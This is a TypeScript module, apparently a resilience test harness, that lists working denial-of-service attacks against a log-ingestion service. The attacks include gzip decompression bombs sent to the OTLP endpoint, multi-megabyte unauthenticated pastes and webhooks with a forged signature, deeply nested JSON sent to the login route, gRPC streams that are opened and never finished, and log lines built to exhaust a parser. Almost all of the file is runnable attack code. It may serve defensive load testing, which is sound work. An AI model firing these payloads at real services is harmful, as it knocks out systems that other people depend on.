import { connect as connectHttp2 } from 'node:http2'
import { connect } from 'node:net'
import { gzipSync } from 'node:zlib'

export interface Target {
  readonly url: string
  readonly grpcUrl: string
  /** Of the attacker's own company; most attacks need none. */
  readonly apiKey: string
}

export interface Attack {
  readonly name: string
  /** What the attacker has to have. */
  readonly needs: 'nothing' | 'an account'
  /** How many at once. */
  readonly lanes: number
  /** Made once, in the attacker's process. */
  readonly prepare: (target: Target) => Shot
}

/** One request; resolves with the bytes that it took, whatever the answer. */
export type Shot = (counter: number) => Promise<number>

const post =
  (target: Target, path: string, headers: Record<string, string>, body: (counter: number) => Buffer): Shot =>
  async (counter) => {
    const bytes = body(counter)
    const response = await fetch(`${target.url}${path}`, {
      method: 'POST',
      headers,
      body: new Uint8Array(bytes),
      signal: AbortSignal.timeout(60_000),
    })
    await response.arrayBuffer()
    // Whoever is told to come later does, a little.
    if (response.status === 429 || response.status === 503) await pause(20)
    return bytes.length
  }

const pause = (timeMs: number) => new Promise((resolve) => setTimeout(resolve, timeMs))

const paste = (target: Target, text: (counter: number) => string): Shot =>
  post(
    target,
    '/api/v1/logs/forward',
    { 'content-type': 'application/json', 'x-api-key': target.apiKey, prefer: 'respond-async' },
    (counter) => Buffer.from(JSON.stringify({ log_content: text(counter) })),
  )

const otlp = (target: Target, type: 'x-protobuf' | 'json', content: Buffer): Shot => {
  const body = gzipSync(content)
  const headers = { 'content-type': `application/${type}`, 'content-encoding': 'gzip', 'x-api-key': target.apiKey }
  return post(target, '/api/v1/otlp/v1/logs', headers, () => body)
}

const varint = (value: number): number[] =>
  value < 128 ? [value] : [(value & 127) | 128, ...varint(Math.floor(value / 128))]
const message = (field: number, content: Buffer) =>
  Buffer.concat([Buffer.of((field << 3) | 2, ...varint(content.length)), content])

const jsonHeaders = { 'content-type': 'application/json' }
const time = (counter: number) => new Date(Date.UTC(2026, 0, 1) + counter * 1_000).toISOString()

const LONG_LINE = 60_000

/** Words that no line before had: nothing of them can be told apart as a part that changes. */
const longLine = (seed: number): string =>
  Array.from({ length: LONG_LINE / 10 }, (_, word) =>
    (seed * 7_919 + word * 104_729).toString(36).padStart(9, 'q'),
  ).join(' ')

/** Begins calls on one connection, sends a part of each message, and never ends them. */
function beginCalls({ grpcUrl }: Target, headers: Record<string, string>, calls: number): Shot {
  const part = Buffer.concat([Buffer.from([0, 1, 0, 0, 0]), Buffer.alloc(1_000_000)])
  return async () => {
    const socket = connect(Number(new URL(grpcUrl).port), '127.0.0.1')
    socket.on('error', () => undefined)
    const session = connectHttp2(grpcUrl, { createConnection: () => socket })
    session.on('error', () => undefined)
    for (let call = 0; call < calls; call++) {
      const stream = session.request({
        ':method': 'POST',
        ':path': '/opentelemetry.proto.collector.logs.v1.LogsService/Export',
        'content-type': 'application/grpc',
        te: 'trailers',
        ...headers,
      })
      stream.on('error', () => undefined)
      stream.resume()
      stream.write(part)
    }
    await pause(2_000)
    session.destroy()
    return socket.bytesWritten
  }
}

export const attacks: readonly Attack[] = [
  {
    name: 'gzip of millions of empty records',
    needs: 'an account',
    lanes: 8,
    prepare: (target) => {
      const records = message(2, Buffer.alloc(16_000_000, Buffer.of(0x12, 0)))
      return otlp(target, 'x-protobuf', message(1, records))
    },
  },
  {
    name: 'gzip of millions of unknown fields',
    needs: 'an account',
    lanes: 8,
    prepare: (target) => otlp(target, 'x-protobuf', Buffer.alloc(60_000_000, Buffer.of(0x78, 1))),
  },
  {
    name: 'gzip of millions of JSON values',
    needs: 'an account',
    lanes: 8,
    prepare: (target) => otlp(target, 'json', Buffer.from(`{"resourceLogs":[${'[],'.repeat(5_000_000)}[]]}`)),
  },
  {
    name: '33 MB pastes without a key',
    needs: 'nothing',
    lanes: 8,
    prepare: (target) => {
      const body = Buffer.from(`{"x":[${'{},'.repeat(11_000_000)}{}]}`)
      return post(target, '/api/v1/logs/forward', jsonHeaders, () => body)
    },
  },
  {
    name: 'deep JSON at sign-in',
    needs: 'nothing',
    lanes: 16,
    prepare: (target) => {
      const body = Buffer.from('['.repeat(60_000))
      return post(target, '/api/v1/auth/login', jsonHeaders, () => body)
    },
  },
  {
    name: 'gRPC calls without a key that never end',
    needs: 'nothing',
    lanes: 8,
    prepare: (target) => beginCalls(target, {}, 100),
  },
  {
    name: 'gRPC calls with a key that never end',
    needs: 'an account',
    lanes: 4,
    prepare: (target) => beginCalls(target, { 'x-api-key': target.apiKey }, 100),
  },
  {
    name: '25 MB webhooks with a made-up signature',
    needs: 'nothing',
    lanes: 8,
    prepare: (target) => {
      const body = Buffer.alloc(25 * 1024 * 1024, '[')
      const headers = { ...jsonHeaders, 'x-hub-signature-256': `sha256=${'0'.repeat(64)}` }
      return post(target, '/api/v1/integrations/github/webhook', headers, () => body)
    },
  },
  {
    name: 'pastes of 200,000 tildes',
    needs: 'an account',
    lanes: 4,
    prepare: (target) => paste(target, (counter) => `${time(counter)} ERROR ${'~'.repeat(200_000)}\n`),
  },
  {
    name: 'pastes of an endless escape sequence',
    needs: 'an account',
    lanes: 4,
    prepare: (target) => paste(target, (counter) => `${time(counter)} ERROR \u001B[${'!'.repeat(200_000)}\n`),
  },
  {
    name: 'pastes of 10,500 hosts',
    needs: 'an account',
    lanes: 4,
    prepare: (target) =>
      paste(target, (counter) =>
        Array.from(
          { length: 10_500 },
          (_, line) => `${time(line)} ERROR connect ECONNREFUSED host-${counter}-${line}.internal:5432`,
        ).join('\n'),
      ),
  },
  {
    name: 'pastes of lines of 60,000 characters, each word another one',
    needs: 'an account',
    lanes: 4,
    prepare: (target) =>
      paste(target, (counter) =>
        Array.from({ length: 60 }, (_, line) => `${time(line)} ERROR ${longLine(counter * 60 + line)}`).join('\n'),
      ),
  },
  {
    name: 'pastes as many as go',
    needs: 'an account',
    lanes: 4,
    prepare: (target) =>
      paste(target, (counter) =>
        Array.from({ length: 5_000 }, (_, line) => `${time(line)} INFO request ${counter}-${line} served`).join('\n'),
      ),
  },
]
